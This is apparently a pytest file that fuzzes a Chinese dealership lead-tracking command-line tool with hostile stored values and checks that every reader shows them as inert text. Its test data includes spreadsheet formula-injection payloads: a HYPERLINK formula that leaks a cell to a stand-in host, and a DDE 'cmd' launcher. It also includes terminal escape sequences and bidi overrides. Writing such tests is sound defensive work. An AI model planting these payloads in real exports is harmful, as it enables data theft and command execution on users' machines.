"""Hostile values stored through every writing command, then read back by every reading command as
every role (issue 17, point 8): formulas, markup, escape sequences, text a page long, the first
and last days a record may carry. Whatever the store holds, a reader gets no traceback, no escape
code on the terminal, no markup interpreted and no formula in a spreadsheet.

Control characters cannot be typed (they are refused); a second store has them written in by
another tool, as an old version or a hand-edited file would leave them."""

import csv
import io
import json
import re
import sqlite3

import pytest

from fuzzing import copy_store, showroom

HYPERLINK = '=HYPERLINK("http://x/?leak="&C2,"y")'
# One-line values (names, models, labels) and free text (notes, contents), with a word (ZQ, ZW)
# that is only ever shown right behind its markup.
LINE = [HYPERLINK, "=cmd|' /C calc'!A0", "+86 全款", "-价格敏感", "@SUM(A1)", "[b]ZQ[/b]", "李[/]",
        "[link=http://x]ZW[/link]", ":smile: 笑", "\u202e逆序文字", "\\x1b[31m 字面", "{name}%s{0}", "长" * 2000]
FREE = [*LINE[:-1], "第一行\n第二行\t完", "=1\n=2", "长\n" * 1000]
LONG_AGO, LAST_DAY = "1900-01-01", "2199-12-31 23:59"
ROLES = ("王芳", "钱主管", "赵经理")
OWNERS = ("王芳", "李强", "孙丽")
# What must never reach a terminal: C0 controls but line feed and tab (and a CSV or calendar
# line's CR LF), DEL, C1, and the bidirectional overrides that reorder a line. CSV is data read
# back by other programs (import among them): an override in it is kept as it was typed.
RAW = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]|\r(?!\n)")
COLOUR = re.compile("\x1b\\[[0-9;]*m")
RAW_IN_DATA = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]|\r(?!\n)")
# Written into every free-text column by "another tool".
POKED = "\x1b[31m红\x9b2J\x07\x00\u202e"


def hostile_writes():
    """(user, command line) for every writing command, each value hostile."""
    writes = []
    for i, (name, text) in enumerate(zip(LINE, FREE)):
        phone, owner, ref = f"1590000{i:04d}", OWNERS[i % 3], f"A{i + 7:05d}"
        fields = ["--model", name, "--wechat", name, "--vehicle", name, "--occupation", name, "--residence", name,
                  "--driver", name, "--call-time", name, "--household", name, "--income", name, "--colour", name,
                  "--budget", name, "--concern", name, "--competitor", name, "--liked", name, "--decision-maker",
                  name, "--timeline", name, "--notes", text, "--birthday", "02-29"]
        writes += [
            ("赵经理", ["add", f"--phone={phone}", f"--owner={owner}", f"--at={LONG_AGO if i % 2 else '2026-05-03 09:00'}",
                       *fields, "--", name]),
            (owner, ["log", ref, "--channel=phone", f"--content={text}", f"--plan={text}", f"--bottleneck={text}",
                     f"--purpose={name}", f"--impression={text}", f"--problem={text}", f"--solution={text}",
                     f"--feasibility={text}", f"--competition={text}", "--objection=price", f"--next={LAST_DAY}"]),
            ("钱主管" if owner != "孙丽" else "赵经理", ["comment", ref, "--", text]),
            (owner, ["grade", ref, "B", f"--reason={text}"]),
            (owner, ["quote", ref, "--price=199800", "--discount=9000", f"--model={name}", f"--extras={text}",
                     "--valid-until=2199-12-31"]),
            (owner, ["trade-in", ref, f"--vehicle={name}", "--appraisal=4.2万", f"--at={LONG_AGO if i % 2 else '2026-05-03 09:30'}"]),
            (owner, ["finance", ref, "--status=rejected", f"--bank={name}", "--amount=15万"]),
            (owner, ["visit", "add", f"--name={name}", f"--notes={text}", f"--model={name}", "--at=2026-05-03 08:00",
                     "--left=2026-05-03 08:30", f"--phone=1580000{i:04d}"]),
        ]
        lifecycle = i % 4
        if lifecycle == 0:
            writes += [(owner, ["lose", ref, "--reason=competitor", f"--competitor={name}", f"--note={text}"]),
                       ("赵经理", ["reject", ref, f"--note={text}"]),
                       (owner, ["lose", ref, "--reason=other", f"--note={text}"]),
                       ("赵经理", ["approve", ref, f"--note={text}"]),
                       ("赵经理", ["case", "add", ref, f"--lesson={text}"])]
        elif lifecycle == 1:
            writes += [(owner, ["win", ref, f"--model={name}", "--price=185000", f"--delivery={LAST_DAY[:10]}"]),
                       (owner, ["cancel-order", ref, f"--reason={text}"]),
                       (owner, ["win", ref, f"--model={name}", "--price=185000"]),
                       (owner, ["deliver", ref, f"--handover-to={name}"])]
        elif lifecycle == 2:
            writes += [("赵经理", ["invalid", ref, f"--reason={text}"]), ("赵经理", ["reopen", ref, f"--note={text}"]),
                       (owner, ["do-not-contact", ref, f"--note={text}"])]
        else:
            writes += [(owner, ["log", ref, "--channel=test-drive", f"--vehicle={name}", f"--content={text}",
                                "--licence-checked"]),
                       ("赵经理", ["log", ref, "--void=1", f"--reason={text}"])]
        writes += [("钱主管", ["objection", "add", "--", f"tag{i}", name]), ("钱主管", ["playbook", "add", "--", f"tag{i}", text]),
                   ("钱主管", ["objection", "edit", f"--label={name}", "--", f"tag{i}"]),
                   ("钱主管", ["playbook", "edit", "--", f"tag{i}", f"{name}\n{text}"]),
                   ("赵经理", ["user", "add", "--role=consultant", f"--team={name}", "--", name])]
    return writes


def hostile_sheet(path):
    """A sheet to import whose every text cell is hostile (a formula behind export's quote among them)."""
    with open(path, "w", encoding="utf-8", newline="") as out:
        sheet = csv.writer(out)
        sheet.writerow(["姓名", "电话", "意向车型", "备注", "竞品", "销售顾问"])
        for i, (name, text) in enumerate(zip(LINE, FREE)):
            sheet.writerow([name, f"1570000{i:04d}", "'" + name if name[0] in "=+-@" else name, text, name, "王芳"])


def poke(db):
    """Control characters in every free-text column, as another tool would leave them (the
    append-only triggers are lifted for it and put back)."""
    columns = {
        "cards": ("name", "wechat", "current_vehicle", "occupation", "residence", "model", "colour", "liked", "notes",
                  "next_purpose"),
        "followups": ("content", "plan", "bottleneck", "purpose", "impression", "competition"),
        "grade_changes": ("reason",), "instructions": ("text",), "visits": ("name", "model", "notes"),
        "objections": ("label",), "playbook": ("text",), "cases": ("lesson",), "quotes": ("model", "extras"),
        "trade_ins": ("vehicle",), "finance": ("bank",), "users": ("team",),
    }
    with sqlite3.connect(db) as conn:
        triggers = conn.execute("SELECT name, sql FROM sqlite_master WHERE type = 'trigger'").fetchall()
        for name, _sql in triggers:
            conn.execute(f"DROP TRIGGER {name}")
        for table, names in columns.items():
            conn.execute(f"UPDATE {table} SET " + ", ".join(f"{c} = {c} || ?" for c in names)
                         + f" WHERE {names[0]} IS NOT NULL", (POKED,) * len(names))
        conn.execute("UPDATE users SET name = name || ? WHERE name = '李强'", (POKED,))
        for _name, sql in triggers:
            conn.execute(sql)


@pytest.fixture(scope="module")
def stores(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    lc = showroom(folder / "typed.db")
    refused = []
    for user, line in hostile_writes():
        result = lc(*line, user=user)
        assert result.exit_code in (0, 1, 2) and "Traceback" not in result.stderr, (line, result.stderr)
        assert not RAW.search(result.stdout + result.stderr), (line, result.stdout + result.stderr)
        if result.exit_code:
            refused.append((line[:2], result.stderr))
    hostile_sheet(folder / "hostile.csv")
    imported = lc("import", str(folder / "hostile.csv"), user="赵经理")
    if imported.exit_code:
        refused.append((["import"], imported.stderr))
    assert refused == [], "\n".join(map(str, refused))
    copy_store(lc.db, folder / "poked.db")
    poke(folder / "poked.db")
    return {"typed": lc.db, "poked": folder / "poked.db"}


CARD_REFS = ["A00001", "A00004", "A00007", "A00008", "A00009", "A00010", "A00012", "A00019"]
READERS = {
    **{f"show {ref}": ("show", ref) for ref in CARD_REFS},
    **{f"show {ref} json": ("show", ref, "--json") for ref in CARD_REFS[:4]},
    "list": ("list", "--all"), "list json": ("list", "--all", "--json"), "list search": ("list", "--search", "ZQ"),
    "today": ("today",), "today all": ("today", "--all"), "today json": ("today", "--json"),
    "today later": ("today", "--all", "--date", "2026-06-30"),
    "audit": ("audit",), "audit json": ("audit", "--json"), "audit since": ("audit", "--since", "2026-04-01"),
    **{f"report {period} {fmt}": ("report", period, "--format", fmt) for period in ("weekly", "monthly")
       for fmt in ("table", "md", "csv", "json")},
    "report weekly xlsx": ("report", "weekly", "--output", "{}/weekly.xlsx"),
    "report weekly md file": ("report", "weekly", "--output", "{}/weekly.md"),
    "report monthly xlsx": ("report", "monthly", "--month", "2026-05", "--output", "{}/monthly.xlsx"),
    "export csv": ("export", "--format", "csv"), "export json": ("export", "--format", "json"),
    "export csv files": ("export", "--output", "{}/all.csv"), "export xlsx": ("export", "--output", "{}/all.xlsx"),
    "calendar": ("calendar",), "calendar file": ("calendar", "--output", "{}/due.ics", "--days", "60"),
    "visit list": ("visit", "list", "--since", "2026-04-01"), "user list": ("user", "list"),
    "objection list": ("objection", "list", "--all"), "playbook list": ("playbook", "list"),
    "playbook show": ("playbook", "show", "tag5"), "case list": ("case", "list"), "target list": ("target", "list"),
}
# A few again in English: the catalog's sentences around the same values.
IN_ENGLISH = {f"{name} en": READERS[name] for name in ("show A00007", "today all", "audit", "report weekly md")}
READERS.update(IN_ENGLISH)


def spreadsheet_cells(folder):
    """Every text cell of the CSV and XLSX files a reader wrote."""
    from openpyxl import load_workbook

    for path in sorted(folder.iterdir()):
        if path.suffix == ".csv":
            for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
                yield from ((path.name, cell) for cell in row)
        elif path.suffix == ".xlsx":
            for sheet in load_workbook(path, read_only=True):
                for row in sheet.iter_rows():
                    yield from ((path.name, c.value) for c in row if c.data_type == "s")


def formula(cell) -> bool:
    """A cell a spreadsheet would compute: = + - @ tab CR first, and not a number."""
    return isinstance(cell, str) and cell[:1] in ("=", "+", "-", "@", "\t", "\r") \
        and not re.fullmatch(r"[-+]?\d[\d,]*(\.\d+)?%?", cell)


@pytest.mark.parametrize("store", ["typed", "poked"])
@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("reader", READERS)
def test_every_reader_shows_hostile_values_as_inert_text(stores, tmp_path, store, role, reader):
    from conftest import Leadcard

    db = tmp_path / "store.db"
    copy_store(stores[store], db)
    out = tmp_path / "out"
    out.mkdir()
    line = [arg.replace("{}", str(out)) for arg in READERS[reader]]
    # The supervisor's terminal draws in colour: the program's own escape codes around the values.
    colour = role == "钱主管"
    result = Leadcard(db)(*line, user=role, env={"LEADCARD_LANG": "en" if reader in IN_ENGLISH else "zh",
                                                 "FORCE_COLOR": "1" if colour else "", "NO_COLOR": "" if colour else "1"})
    assert "\x1b[31m红" not in result.stdout + result.stderr
    said = COLOUR.sub("", result.stdout + result.stderr)
    assert result.exit_code == 0 or (result.exit_code == 1 and role != "赵经理"), said[-2000:]
    assert "Traceback" not in said
    found = (RAW_IN_DATA if "csv" in line else RAW).search(said)
    assert found is None, said[max(0, found.start() - 200):found.end() + 200]
    for written in out.iterdir():  # the calendar, Markdown and JSON files a reader wrote
        assert written.suffix not in (".ics", ".md", ".json") or RAW.search(written.read_text(encoding="utf-8")) is None, written.name
    # Markup is never drawn: its word stays behind the tag, emoji codes stay codes.
    assert said.count("ZQ") == said.count("]ZQ") and said.count("ZW") == said.count("x]ZW")
    assert "😄" not in said
    if result.exit_code == 0 and ("--json" in line or "json" in line):
        json.loads(result.stdout)
    if line[0] in ("export", "report") and ("csv" in line or any(arg.endswith((".csv", ".xlsx")) for arg in line)):
        cells = [*spreadsheet_cells(out), *(("stdout", c) for row in csv.reader(io.StringIO(result.stdout))
                                            for c in row)] if "csv" in line else list(spreadsheet_cells(out))
        assert [c for c in cells if formula(c[1])] == []


ON_A_TERMINAL = [("today", "--all"), ("today",), ("list", "--all"), ("show", "A00001"), ("show", "A00007"), ("audit",),
                 ("report", "weekly"), ("visit", "list"), ("playbook", "list"), ("user", "list")]


@pytest.mark.parametrize("role", ROLES)
def test_on_a_colour_terminal_what_a_store_holds_is_drawn_and_never_sent(stores, role):
    from conftest import on_a_terminal

    for line in ON_A_TERMINAL:
        drawn = on_a_terminal(stores["poked"], *line, env={"LEADCARD_USER": role, "LEADCARD_PAGER": "",
                                                           "TERM": "xterm-256color"}, rows=500, check=True)
        # The program's own colours are the only escape codes: none of the store's gets through.
        assert not [seq for seq in ("\x1b[31m红", "\x9b", "\x07", "\u202e", "\x00", "\x1b]8") if seq in drawn], line
        assert drawn.count("ZQ") == drawn.count("]ZQ"), line
